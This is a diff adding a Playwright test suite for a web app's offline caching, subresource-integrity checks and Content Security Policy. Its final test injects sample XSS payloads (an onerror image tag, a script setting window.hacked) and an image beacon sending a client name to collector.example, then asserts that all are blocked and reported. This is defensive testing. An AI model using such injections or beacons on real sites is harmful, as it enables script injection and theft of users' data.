@@ -1,0 +1,110 @@
+/** What the app keeps of itself on the device, what its pages may do, and what the browser tells the server when they may not. */
+import { untilOfflineReady } from '../fixtures/referral-form.ts'
+import { expect, signInAs, test } from '../fixtures/test.ts'
+
+/** Bytes. */
+const SHELL_BUDGET = 3_000_000
+
+test('after a whole session only files of the app are cached, within their budget', async ({ page }) => {
+  await signInAs(page)
+  await untilOfflineReady(page)
+  for (const path of [
+    '/dashboard/referrals?tab=queue',
+    '/notifications',
+    '/settings/security',
+    '/submit-referral',
+  ]) {
+    await page.goto(path)
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  }
+  const kept = await page.evaluate(async () => {
+    const files: { path: string; size: number }[] = []
+    for (const name of await caches.keys()) {
+      const cache = await caches.open(name)
+      for (const request of await cache.keys()) {
+        const size = (await (await cache.match(request))?.arrayBuffer())?.byteLength ?? 0
+        files.push({ path: new URL(request.url).pathname, size })
+      }
+    }
+    return files
+  })
+  const foreign = kept.filter(
+    ({ path }) => !/^\/(?:assets\/.+|icons\/.+|[\w/-]+\.(?:svg|html)|manifest\.webmanifest)$/.test(path),
+  )
+  expect(foreign).toEqual([])
+  expect(kept.map(({ path }) => path)).not.toContain('/sw-off.js')
+  expect(kept.length).toBeGreaterThan(20)
+  expect(kept.reduce((sum, { size }) => sum + size, 0)).toBeLessThan(SHELL_BUDGET)
+})
+
+test('every page opens offline, also one never visited; what the server answers does not', async ({
+  page,
+  context,
+}) => {
+  await signInAs(page)
+  await untilOfflineReady(page)
+  await context.setOffline(true)
+  await page.goto('/settings/device')
+  await expect(page.getByRole('heading', { name: 'Storage on this device' })).toBeVisible()
+  await page.goto('/nowhere/at/all')
+  await expect(page.getByRole('heading', { name: 'Page not found' })).toBeVisible()
+  for (const path of ['/api/config', '/readyz', '/csp-report', '/auth/callback.json']) {
+    await expect(page.goto(path), path).rejects.toThrow(/ERR_INTERNET_DISCONNECTED/)
+  }
+})
+
+test('the page holds no inline script or style, and names the hash of what it loads', async ({ product }) => {
+  const html = await (await fetch(product.origin, { headers: { accept: 'text/html' } })).text()
+  expect(html).not.toMatch(/<style|\sstyle=|\son\w+=/)
+  const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag)
+  const loaded = [...html.matchAll(/<link\b[^>]*rel="(?:modulepreload|stylesheet)"[^>]*>/g)].map(
+    ([tag]) => tag,
+  )
+  expect(scripts.filter((tag) => !tag.includes('application/ld+json')).length).toBeGreaterThan(0)
+  for (const tag of [...scripts, ...loaded]) {
+    if (!tag.includes('application/ld+json'))
+      expect(tag).toMatch(/(?:src|href)="\/assets\/.*integrity="sha384-/)
+  }
+})
+
+test('an injected script is stopped, and the server hears of it without what stood around it', async ({
+  browser,
+  product,
+}) => {
+  // Not the usual page, which fails on any violation.
+  const page = await browser.newPage({ baseURL: product.origin })
+  await page.goto('/signup?client=Jane-Doe')
+  await expect(page.getByRole('button', { name: 'Attorney' })).toBeVisible()
+  const outcome = await page.evaluate(() => {
+    const stopped: string[] = []
+    const attempt = (work: () => void): void => {
+      try {
+        work()
+      } catch (error) {
+        stopped.push(error instanceof TypeError ? 'TypeError' : String(error))
+      }
+    }
+    attempt(() => (document.body.innerHTML += '<img src=x onerror="window.hacked = true">'))
+    const script = document.createElement('script')
+    attempt(() => (script.textContent = 'window.hacked = true // Jane Doe'))
+    attempt(() => void navigator.serviceWorker.register('/assets/other.js'))
+    const frame = document.createElement('img')
+    frame.src = 'https://collector.example/?client=Jane-Doe'
+    document.body.append(frame)
+    return { stopped, hacked: 'hacked' in window }
+  })
+  expect(outcome.hacked).toBe(false)
+  expect(outcome.stopped.filter((what) => what === 'TypeError').length).toBeGreaterThanOrEqual(2)
+  const reports = (): readonly string[] =>
+    product.program
+      .output()
+      .split('\n')
+      .filter((line) => line.includes('content security policy'))
+  await expect
+    .poll(() => reports().some((line) => line.includes('"img-src"')), { timeout: 30_000 })
+    .toBe(true)
+  await expect.poll(() => reports().some((line) => line.includes('require-trusted-types-for'))).toBe(true)
+  expect(reports().join('\n')).toContain('https://collector.example"')
+  expect(product.program.output()).not.toMatch(/Jane[ -]Doe/)
+  await page.close()
+})
